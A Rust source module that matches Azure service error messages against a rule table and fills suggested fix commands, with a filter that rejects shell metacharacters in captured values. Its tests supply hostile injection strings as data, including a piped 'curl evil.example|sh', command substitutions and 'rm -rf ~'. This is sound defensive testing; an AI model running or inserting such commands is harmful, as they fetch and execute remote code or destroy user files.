//! Azure services' refusals as data (`assets/api-errors.toml`): which service said it, what its
//! code or words mean for a daemon app, and the fix filled with the operator's ids and the ids
//! the message itself names (the client, object id, action and scope of an ARM denial).
//!
//! A rule matches on a service error code or on a pattern of the service's words; its captures
//! (named regex groups) fill the evidence and fix templates beside the [`FixContext`] values. The
//! role a denied action needs is read from the `[[role]]` table, so knowledge stays in the file.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use regex::Regex;
use serde::Deserialize;

use super::{Finding, FixContext, Severity};

const SOURCE: &str = include_str!("../../assets/api-errors.toml");

/// Evidence quotes at most this much of a service's message; rules read all of it.
const MAX_QUOTE_CHARS: usize = 400;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    service: Vec<Service>,
    role: Vec<RoleRow>,
    rule: Vec<RuleRow>,
    class: Vec<ClassRow>,
}

/// An Azure service, known by its hosts and by words its errors carry.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Service {
    pub id: String,
    pub name: String,
    #[serde(default)]
    pub hosts: Vec<String>,
    #[serde(default)]
    pub words: Vec<String>,
    /// Authorises by the token's app roles (Graph, most custom APIs), not by Azure RBAC role
    /// assignments: a 403 there is a missing application permission.
    #[serde(default)]
    pub uses_app_roles: bool,
    /// The audiences its tokens must carry, for an audience complaint that names none.
    #[serde(default)]
    pub audiences: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RoleRow {
    action: String,
    role: String,
    /// Only for rules of this service (Service Bus and Event Hubs share the claim names).
    #[serde(default)]
    service: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleRow {
    id: String,
    service: String,
    #[serde(default)]
    codes: Vec<String>,
    #[serde(default)]
    patterns: Vec<String>,
    #[serde(default)]
    unless: Option<String>,
    #[serde(default)]
    captures: Vec<String>,
    #[serde(default = "error")]
    severity: String,
    title: String,
    cause: String,
    #[serde(default)]
    evidence: Vec<String>,
    fixes: Vec<String>,
    #[serde(default)]
    default_role: Option<String>,
    /// The audience the service wants: a known audience that differs from it only by the
    /// trailing slash is the cause, not this rule's.
    #[serde(default)]
    wants_audience: Option<String>,
    docs: Vec<String>,
    /// Where the wording was seen; data for reviewers, checked by the tests.
    #[cfg_attr(not(test), allow(dead_code))]
    sources: Vec<String>,
}

fn error() -> String {
    "error".into()
}

/// What an unknown error of an HTTP status class usually means.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ClassRow {
    /// `"403"`, or `"4xx"` / `"5xx"` for the rest of a class, or `"text"` when no status is known.
    pub status: String,
    pub meaning: String,
    pub check: Vec<String>,
}

struct Rule {
    row: RuleRow,
    severity: Severity,
    patterns: Vec<Regex>,
    unless: Option<Regex>,
    captures: Vec<Regex>,
    /// The placeholders its captures (and the role table) can fill: `{action}`, `{needed_role}`.
    declared: Vec<String>,
}

struct Role {
    action: Regex,
    name: String,
    service: Option<String>,
}

/// The compiled data file.
pub struct ServiceErrors {
    services: Vec<Service>,
    roles: Vec<Role>,
    rules: Vec<Rule>,
    classes: Vec<ClassRow>,
}

/// What the rules read: all the words said, the codes found, the status and the API's host.
#[derive(Debug, Clone, Copy)]
pub struct Subject<'a> {
    /// Everything said, read whole by the rules.
    pub text: &'a str,
    /// The service's message, quoted as evidence (shortened for display only).
    pub quote: &'a str,
    pub codes: &'a [String],
    pub status: Option<u16>,
    /// The URL that was called, when known: it names the service best.
    pub called: Option<&'a str>,
    /// Every URL the text names (docs links and sign-in pages too).
    pub urls: &'a [String],
    /// The audience the token had or the scope asked for, when known.
    pub audience: Option<&'a str>,
}

impl ServiceErrors {
    /// The compiled-in file. A test proves it parses and compiles, so the empty fallback is never
    /// what runs.
    pub fn builtin() -> &'static ServiceErrors {
        static BUILTIN: OnceLock<ServiceErrors> = OnceLock::new();
        BUILTIN.get_or_init(|| {
            super::parsed("assets/api-errors.toml");
            ServiceErrors::parse(SOURCE).unwrap_or_else(|_| ServiceErrors {
                services: Vec::new(),
                roles: Vec::new(),
                rules: Vec::new(),
                classes: Vec::new(),
            })
        })
    }

    pub fn parse(text: &str) -> Result<Self, String> {
        let file: File = toml::from_str(text).map_err(|e| e.to_string())?;
        let compile = |pattern: &str| Regex::new(pattern).map_err(|e| format!("{pattern}: {e}"));
        let mut rules = Vec::new();
        for row in file.rule {
            if row.codes.is_empty() && row.patterns.is_empty() {
                return Err(format!("rule {} has neither codes nor patterns", row.id));
            }
            if !file.service.iter().any(|s| s.id == row.service) {
                return Err(format!(
                    "rule {} names an unknown service {}",
                    row.id, row.service
                ));
            }
            let severity = match row.severity.as_str() {
                "error" => Severity::Error,
                "warning" => Severity::Warning,
                "info" => Severity::Info,
                other => return Err(format!("rule {}: unknown severity {other}", row.id)),
            };
            let captures: Vec<Regex> = row
                .captures
                .iter()
                .map(|p| compile(p))
                .collect::<Result<_, _>>()?;
            let declared = captures
                .iter()
                .flat_map(|c| c.capture_names().flatten().map(str::to_owned))
                .chain(["needed_role".to_owned()])
                .collect();
            rules.push(Rule {
                severity,
                patterns: row
                    .patterns
                    .iter()
                    .map(|p| compile(p))
                    .collect::<Result<_, _>>()?,
                unless: row.unless.as_deref().map(compile).transpose()?,
                captures,
                declared,
                row,
            });
        }
        let role_table = file
            .role
            .into_iter()
            .map(|r| {
                Ok(Role {
                    action: compile(&r.action)?,
                    name: r.role,
                    service: r.service,
                })
            })
            .collect::<Result<_, String>>()?;
        Ok(Self {
            services: file.service,
            roles: role_table,
            rules,
            classes: file.class,
        })
    }

    /// The service the text is about: by the host of the URL called, else of a URL it names,
    /// else by its words.
    pub fn service_of(&self, subject: &Subject) -> Option<&Service> {
        let by_host = |url: &str| {
            let host = super::api::host_of(url)?;
            self.services
                .iter()
                .find(|s| s.hosts.iter().any(|pattern| host_matches(pattern, &host)))
        };
        let by_words = || {
            let lower = subject.text.to_ascii_lowercase();
            self.services.iter().find(|s| {
                s.words
                    .iter()
                    .any(|w| lower.contains(&w.to_ascii_lowercase()))
            })
        };
        // Sign-in URLs appear in every challenge and Entra error: they name the service only
        // when nothing else does.
        let by_named_host = |skip_entra: bool| {
            subject
                .urls
                .iter()
                .find_map(|u| by_host(u).filter(|service| !(skip_entra && service.id == "entra")))
        };
        subject
            .called
            .and_then(by_host)
            .or_else(|| by_named_host(true))
            .or_else(by_words)
            .or_else(|| by_named_host(false))
    }

    pub fn service(&self, id: &str) -> Option<&Service> {
        self.services.iter().find(|s| s.id == id)
    }

    /// What an unknown error of this status usually means.
    pub fn class(&self, status: Option<u16>) -> Option<&ClassRow> {
        let exact = status.map(|s| s.to_string());
        let wide = status.map(|s| format!("{}xx", s / 100));
        let key = |row: &&ClassRow| Some(&row.status) == exact.as_ref();
        self.classes
            .iter()
            .find(key)
            .or_else(|| {
                self.classes
                    .iter()
                    .find(|r| Some(&r.status) == wide.as_ref())
            })
            .or_else(|| {
                status
                    .is_none()
                    .then(|| self.classes.iter().find(|r| r.status == "text"))
                    .flatten()
            })
    }

    /// The findings of every rule the subject matches, in the file's order (most specific
    /// first).
    pub fn findings(&self, subject: &Subject, context: &FixContext) -> Vec<Finding> {
        self.rules
            .iter()
            .filter(|rule| rule.matches(subject))
            .map(|rule| self.finding(rule, subject, context))
            .collect()
    }

    fn finding(&self, rule: &Rule, subject: &Subject, context: &FixContext) -> Finding {
        let mut values: BTreeMap<String, String> = BTreeMap::new();
        for capture in &rule.captures {
            if let Some(found) = capture.captures(subject.text) {
                for name in capture.capture_names().flatten() {
                    if let Some(value) = found.name(name) {
                        // Captured from a server's words, and it lands in commands the operator
                        // copies: a value a shell would read as more than a word is not used
                        // (the fix shows <name>; the message itself is still quoted).
                        if is_shell_word(value.as_str().trim()) {
                            values
                                .entry(name.to_owned())
                                .or_insert_with(|| value.as_str().trim().to_owned());
                        }
                    }
                }
            }
        }
        let needed_role = values
            .get("action")
            .and_then(|action| {
                self.roles.iter().find(|r| {
                    r.service.as_ref().is_none_or(|s| *s == rule.row.service)
                        && r.action.is_match(action)
                })
            })
            .map(|r| r.name.clone())
            .or_else(|| rule.row.default_role.clone());
        if let Some(role) = needed_role {
            values.insert("needed_role".into(), role);
        }
        if let Some(wanted) = &rule.row.wants_audience
            && let Some(actual) = subject.audience
            && actual != wanted
            && actual.trim_end_matches('/') == wanted.trim_end_matches('/')
        {
            let api = self
                .service(&rule.row.service)
                .map_or("The API", |s| s.name.as_str());
            return super::audience::trailing_slash(actual, wanted)
                .evidence(format!("{api} accepts exactly: {wanted}"))
                .evidence(said(subject));
        }
        let declared = &rule.declared;
        let render = |template: &str| fill(&context.render(template), &values, declared, true);
        let mut finding = Finding::new(&rule.row.id, rule.severity, render(&rule.row.title))
            .cause(render(&rule.row.cause));
        finding = finding.evidence(said(subject));
        for template in &rule.row.evidence {
            let line = fill(template, &values, declared, false);
            let unfilled = declared
                .iter()
                .any(|name| line.contains(&format!("{{{name}}}")));
            if !unfilled {
                finding = finding.evidence(line);
            }
        }
        for fix in &rule.row.fixes {
            finding = finding.fix(render(fix));
        }
        finding.docs.clone_from(&rule.row.docs);
        finding
    }
}

impl Rule {
    fn matches(&self, subject: &Subject) -> bool {
        let by_code = subject.codes.iter().any(|code| {
            self.row
                .codes
                .iter()
                .any(|wanted| wanted.eq_ignore_ascii_case(code))
        });
        let by_words = || self.patterns.iter().any(|p| p.is_match(subject.text));
        (by_code || by_words())
            && !self
                .unless
                .as_ref()
                .is_some_and(|u| u.is_match(subject.text))
    }
}

/// `{name}` placeholders filled from `values`. A declared name with no value becomes `<name>`
/// when `stand_in`, else stays so the caller can drop the line; other braces are left alone.
fn fill(
    template: &str,
    values: &BTreeMap<String, String>,
    declared: &[String],
    stand_in: bool,
) -> String {
    let mut out = template.to_owned();
    for name in declared {
        let placeholder = format!("{{{name}}}");
        match values.get(name) {
            Some(value) => out = out.replace(&placeholder, value),
            None if stand_in => {
                out = out.replace(&placeholder, &format!("<{}>", name.replace('_', "-")));
            }
            None => {}
        }
    }
    out
}

/// The service's own words, as one evidence line (shortened for display only).
pub(super) fn said(subject: &Subject) -> String {
    let status = subject
        .status
        .map_or_else(String::new, |s| format!("HTTP {s} "));
    // Some services' message is the code itself: say it once.
    let code = subject
        .codes
        .first()
        .filter(|c| !subject.quote.trim_start().starts_with(c.as_str()))
        .map_or_else(String::new, |c| format!("{c}: "));
    let words: String = subject
        .quote
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    let mut quote: String = words.chars().take(MAX_QUOTE_CHARS).collect();
    if words.chars().count() > MAX_QUOTE_CHARS {
        quote.push('…');
    }
    format!("{status}{code}{quote}")
}

/// Ids, names, scopes and actions as Azure writes them: nothing a shell would split, expand or
/// run (no space, quote, `;`, `|`, `&`, `$`, backtick, redirection or control character).
fn is_shell_word(value: &str) -> bool {
    !value.is_empty()
        && value.len() <= 1024
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-/:@#+=,()~[]".contains(c))
}

/// `*.vault.azure.net` matches `kv.vault.azure.net`; a plain host matches itself.
fn host_matches(pattern: &str, host: &str) -> bool {
    match pattern.strip_prefix("*.") {
        Some(suffix) => {
            host.len() > suffix.len()
                && host.ends_with(suffix)
                && host[..host.len() - suffix.len()].ends_with('.')
        }
        None => pattern.eq_ignore_ascii_case(host),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shipped_file_parses_and_every_rule_is_sourced() {
        let errors = ServiceErrors::parse(SOURCE).expect("assets/api-errors.toml parses");
        assert!(errors.rules.len() >= 20, "{}", errors.rules.len());
        for rule in &errors.rules {
            assert!(
                !rule.row.sources.is_empty(),
                "{} has no source",
                rule.row.id
            );
            // A source is where the wording was seen (an old blog may be plain http); docs are
            // links the operator follows, https only.
            assert!(
                rule.row.sources.iter().all(|s| s.starts_with("http")),
                "{}",
                rule.row.id
            );
            assert!(
                rule.row.docs.iter().all(|s| s.starts_with("https://")),
                "{}",
                rule.row.id
            );
            assert!(rule.row.id.contains('.'), "{}", rule.row.id);
        }
        for status in [
            Some(400),
            Some(401),
            Some(403),
            Some(404),
            Some(409),
            Some(502),
            None,
        ] {
            assert!(errors.class(status).is_some(), "{status:?}");
        }
    }

    #[test]
    fn fills_captures_and_stands_in_for_missing_ones() {
        let values = BTreeMap::from([("action".to_owned(), "a/read".to_owned())]);
        let declared = ["action".to_owned(), "arm_scope".to_owned()];
        let fill = |t: &str, stand_in| fill(t, &values, &declared, stand_in);
        assert_eq!(
            fill("{action} at {arm_scope}", true),
            "a/read at <arm-scope>"
        );
        assert_eq!(
            fill("{action} at {arm_scope}", false),
            "a/read at {arm_scope}"
        );
        assert_eq!(fill("[].{name:id} {other}", true), "[].{name:id} {other}");
    }

    /// A hostile server cannot plant a command in a fix the operator copies.
    #[test]
    fn captured_values_that_a_shell_would_split_never_fill_a_fix() {
        let errors = ServiceErrors::builtin();
        let message = |scope: &str| {
            format!(
                "AuthorizationFailed: The client 'x' with object id '99999999-8888-4777-8666-555555555555' \
                 does not have authorization to perform action 'Microsoft.Resources/read' over scope '{scope}'"
            )
        };
        let codes = ["AuthorizationFailed".to_owned()];
        let fix = |text: &str| {
            let subject = Subject {
                text,
                quote: text,
                codes: &codes,
                status: Some(403),
                called: None,
                urls: &[],
                audience: None,
            };
            let findings = errors.findings(&subject, &FixContext::default());
            findings[0]
                .labelled_fix("az")
                .unwrap_or_default()
                .to_owned()
        };
        let good = fix(&message("/subscriptions/0b1c/resourceGroups/rg-(prod)_1.x"));
        assert!(
            good.ends_with("--scope /subscriptions/0b1c/resourceGroups/rg-(prod)_1.x"),
            "{good}"
        );
        for hostile in [
            "/x; curl evil.example|sh",
            "/x$(id)",
            "/x`id`",
            "/x && rm -rf ~",
            "/x\u{1b}]0;t",
        ] {
            let fix = fix(&message(hostile));
            assert!(fix.ends_with("--scope <arm-scope>"), "{hostile}: {fix}");
        }
    }

    #[test]
    fn hosts_match_by_suffix_on_a_label_boundary() {
        assert!(host_matches("*.vault.azure.net", "kv1.vault.azure.net"));
        assert!(!host_matches("*.vault.azure.net", "evilvault.azure.net"));
        assert!(!host_matches("*.vault.azure.net", "vault.azure.net"));
        assert!(host_matches("management.azure.com", "management.azure.com"));
    }
}
